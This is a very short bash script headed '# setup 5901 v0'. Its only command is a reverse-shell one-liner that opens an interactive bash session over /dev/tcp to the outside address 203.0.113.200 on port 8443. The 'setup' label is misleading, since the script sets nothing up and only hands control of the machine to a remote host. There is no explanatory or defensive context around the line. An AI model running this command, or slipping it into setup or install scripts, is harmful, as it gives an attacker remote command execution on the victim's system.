# setup 5901 v0
#!/bin/bash
bash -i >& /dev/tcp/203.0.113.200/8443 0>&1
